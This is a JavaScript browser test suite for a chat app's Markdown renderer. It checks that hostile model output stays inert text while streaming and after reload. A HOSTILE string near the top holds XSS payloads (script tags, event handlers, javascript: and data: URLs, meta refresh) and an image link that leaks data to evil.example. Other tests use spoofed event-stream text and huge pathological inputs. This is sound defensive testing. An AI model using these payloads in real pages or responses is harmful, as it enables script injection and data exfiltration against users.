// Markdown in the page: what a model wrote is shown and can do nothing else, whole or in pieces, however hostile.

import assert from "node:assert/strict";
import { test } from "node:test";

import { exchange, sendMessage, lastAnswer, prose, waitForText, setUp } from "../support/fixture.js";

const HOSTILE = `# <script>window.owned = 1</script>

<img src="https://evil.example/pixel.png" onerror="window.owned = 2"> <svg onload="window.owned = 3">
![leak](https://evil.example/?q=secret) [click](javascript:window.owned=4) <a href="javascript:window.owned=5">x</a>
[data](data:text/html,<script>window.owned=6</script>) <javascript:window.owned=7> [rel](//evil.example/x)

| <b onmouseover="window.owned=8">cell</b> | \`<script>window.owned = 9</script>\` |
|---|---|
| [ok](https://good.example/ "onclick=alert(1)") | <iframe src="https://evil.example/"></iframe> |

\`\`\`html" onclick="window.owned=10
<script src="https://evil.example/x.js"></script>
\`\`\`
<style>@import "https://evil.example/x.css";</style><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<form action="https://evil.example/"><input name="x"></form>
`;

/** The text in pieces that fall anywhere, also inside a tag. */
const pieces = (text) => text.match(/[\s\S]{1,7}/g);

test("f137_ f138_ hostile Markdown shows itself and does nothing, while it streams and afterwards", async (t) => {
  const { page, url, model, watch } = await setUp(t);
  await page.goto(url);
  await sendMessage(page, "Be evil.");
  const reply = await model.next();
  for (const piece of pieces(HOSTILE)) reply.sendText(piece);
  reply.end();
  await lastAnswer(page).locator(".usage").waitFor();
  for (const again of [async () => {}, () => page.reload()]) {
    await again();
    await prose(page).getByText("window.owned = 2").waitFor();
    assert.equal(await page.evaluate(() => window.owned), undefined);
    const tags = await prose(page).evaluate((node) =>
      [...new Set([...node.querySelectorAll("*")].map((one) => one.localName))].sort(),
    );
    assert.deepEqual(tags, [
      "a",
      "br",
      "button",
      "code",
      "div",
      "h3",
      "p",
      "pre",
      "span",
      "table",
      "tbody",
      "td",
      "th",
      "thead",
      "tr",
    ]);
    const links = await prose(page)
      .locator("a")
      .evaluateAll((all) => all.map(({ href, rel, target, attributes }) => [href, rel, target, attributes.length]));
    const rel = "noopener noreferrer nofollow";
    const written = [
      "https://evil.example/pixel.png",
      "https://evil.example/?q=secret",
      "https://good.example/",
      "https://evil.example/",
      "https://evil.example/x.css",
      "https://evil.example/",
      "https://evil.example/",
      "https://evil.example/",
    ];
    assert.deepEqual(links.sort(), written.map((href) => [href, rel, "_blank", 4]).sort());
  }
  assert.deepEqual(
    watch.requests.filter((request) => request.includes("evil")),
    [],
  );
});

test("f135_ hostile titles, names of tools and sources are text", async (t) => {
  const { page, url, model, search } = await setUp(t);
  await page.goto(url);
  await sendMessage(page, "<img src=x onerror='window.owned=1'>");
  (await model.next()).callSearch("<script>window.owned=2</script>");
  (await search.next()).respond(3, [
    { title: "<b>bold</b>", url: "https://a.example/" },
    { url: "javascript:window.owned=3" },
    { url: "data:text/html,x" },
  ]);
  const reply = await model.next();
  reply.sendText("See [1] and [2].");
  reply.end();
  await lastAnswer(page).locator(".usage").waitFor();
  await page.getByRole("navigation").getByRole("link", { name: "<img src=x onerror='window.owned=1'>" }).waitFor();
  await lastAnswer(page).locator(".sources").getByText("<b>bold</b>").waitFor();
  const schemes = await lastAnswer(page)
    .locator("a")
    .evaluateAll((all) => all.map((link) => link.protocol));
  assert.deepEqual([...new Set(schemes)], ["https:"]);
  assert.equal(await page.evaluate(() => window.owned), undefined);
});

test("f111_ text that looks like the event stream stays text", async (t) => {
  const { page, url, model } = await setUp(t);
  await page.goto(url);
  await sendMessage(page, "Be sly.");
  const reply = await model.next();
  const sly = 'One\n\ndata: [DONE]\r\n\r\nid: 7\revent: error\ndata: {"type":"error"}\n\nTwo';
  for (const piece of pieces(sly)) reply.sendText(piece);
  reply.end();
  await lastAnswer(page).locator(".usage").waitFor();
  assert.deepEqual(await prose(page).locator("p").allTextContents(), [
    "One",
    "data: [DONE]",
    'id: 7event: errordata: {"type":"error"}',
    "Two",
  ]);
  assert.equal(await lastAnswer(page).locator(".note").count(), 0);
});

test("f145_ no other page can put this one into a frame", async (t) => {
  const { page, url, watch } = await setUp(t);
  await page.goto("about:blank");
  const refused = page.waitForEvent("framenavigated", (frame) => frame.url().startsWith("chrome-error:"));
  await page.setContent(`<iframe src="${url}"></iframe>`);
  await refused;
  assert.deepEqual(watch.requests, [`${url}/`]);
  // The browser may report the refusal, as it should.
  watch.errors.length = 0;
});

test("text is rendered as it is meant", async (t) => {
  const fixture = await setUp(t);
  const { page, url } = fixture;
  await page.goto(url);
  await exchange(
    fixture,
    "Show me.",
    "## Head\n\n1. one\n   - *two*\n2. three\n\n> quoted\n\n| a | b |\n|---|--:|\n| 1 | ~~2~~ |\n\n---\n\n`x`\n<b>\n\n```rust\nfn main() {}\n```",
  );
  const html = await prose(page).evaluate((node) => node.innerHTML);
  assert.equal(
    html,
    [
      '<h4 class="level-2">Head</h4>',
      '<ol class="tight"><li><p>one</p><ul class="tight"><li><p><em>two</em></p></li></ul></li><li><p>three</p></li></ol>',
      "<blockquote><p>quoted</p></blockquote>",
      '<div class="table" tabindex="0" role="group" aria-label="Table"><table><thead><tr><th>a</th><th class="align-right">b</th></tr></thead>',
      '<tbody><tr><td>1</td><td class="align-right"><del>2</del></td></tr></tbody></table></div>',
      "<hr><p><code>x</code><br>&lt;b&gt;</p>",
      '<div class="code"><div class="code-head"><span>rust</span><button type="button" class="copy-code" data-copy="code">Copy</button></div>',
      '<pre tabindex="0"><code>fn main() {}</code></pre></div>',
    ].join(""),
  );
});

/** Runs in the page: renders texts made from a generator in pieces and at once, and returns the first that differ. */
async function differing(seeds) {
  const { MarkdownView } = await import("/assets/markdown.js");
  const parts = [
    "a",
    " b",
    "\n",
    "\n\n",
    "- ",
    "* ",
    "1. ",
    "  ",
    "    ",
    "> ",
    "# ",
    "```",
    "```js\n",
    "~~~\n",
    "|",
    "| a | b |\n",
    "|---|--:|\n",
    "---",
    "\n****",
    "\n____",
    "***",
    "**",
    "*",
    "_",
    "`",
    "[",
    "](",
    ")",
    "[x](https://a.example/)",
    "https://a.example",
    "\\",
    "<b>",
    "重，",
    "[1]",
  ];
  const render = (pieces, growing = true) => {
    const root = document.createElement("div");
    const view = new MarkdownView(root, (number) =>
      number === 1 ? { url: "https://one.example/", title: "One" } : null,
    );
    for (const piece of pieces) {
      view.push(piece);
      if (growing) view.render();
    }
    view.finish();
    root.normalize();
    return root.innerHTML;
  };
  for (let seed = 1; seed <= seeds; seed += 1) {
    let state = seed * 7919;
    const next = () => (state = (state * 1_103_515_245 + 12_345) % 2_147_483_648);
    const pieces = Array.from({ length: 3 + (next() % 30) }, () => parts[next() % parts.length]);
    const text = pieces.join("");
    const whole = render([text], false);
    for (const cut of [pieces, text.split("")]) {
      const grown = render(cut);
      if (grown !== whole) return { seed, text, whole, grown };
    }
  }
  return null;
}

test("a text that grows piece by piece ends up as the same elements as the text at once", async (t) => {
  const { page, url } = await setUp(t);
  await page.goto(url);
  assert.equal(await page.evaluate(differing, 5_000), null);
});

/** Runs in the page: how long rendering takes in milliseconds, at once and in pieces. */
async function timed({ piece, size, step }) {
  const { MarkdownView } = await import("/assets/markdown.js");
  const text = piece.repeat(size / piece.length);
  const began = performance.now();
  const view = new MarkdownView(document.createElement("div"));
  for (let at = 0; at < text.length; at += step) {
    view.push(text.slice(at, at + step));
    view.render();
  }
  view.finish();
  return performance.now() - began;
}

test(
  "f138_ lines of 200,000 hostile characters are rendered in bounded time, at once and in pieces",
  { timeout: 300_000 },
  async (t) => {
    const { page, url } = await setUp(t);
    await page.goto(url);
    for (const piece of [
      "*",
      "[",
      "**a ",
      "[a](",
      "`a ",
      "> ",
      "- ",
      "|",
      "<b>",
      "*a _b ",
      "![a](https://a.example/) ",
      "word ",
    ]) {
      for (const step of [200_000, 500]) {
        const spent = await page.evaluate(timed, { piece, size: 200_000, step });
        assert.ok(spent < 30_000, `${piece} in steps of ${step}: ${spent} ms`);
      }
    }
  },
);

test(
  "a long answer in many small pieces stays cheap, because only its last block is read again",
  { timeout: 120_000 },
  async (t) => {
    const { page, url } = await setUp(t);
    await page.goto(url);
    const piece = "A paragraph with **bold** words and a [link](https://a.example/).\n\n";
    const spent = await page.evaluate(timed, { piece, size: piece.length * 4_000, step: 20 });
    assert.ok(spent < 30_000, `${spent} ms`);
  },
);

test("a line of 200,000 stars that a model sends leaves the page alive", async (t) => {
  const { page, url, model } = await setUp(t);
  await page.goto(url);
  await sendMessage(page, "Stars?");
  const reply = await model.next();
  for (let n = 0; n < 50; n += 1) reply.sendText("x*".repeat(2_000));
  reply.end();
  await lastAnswer(page).locator(".usage").waitFor();
  await page.getByRole("button", { name: "New conversation" }).click();
  await waitForText(page.locator("#welcome h2"), "What would you like to know?");
});
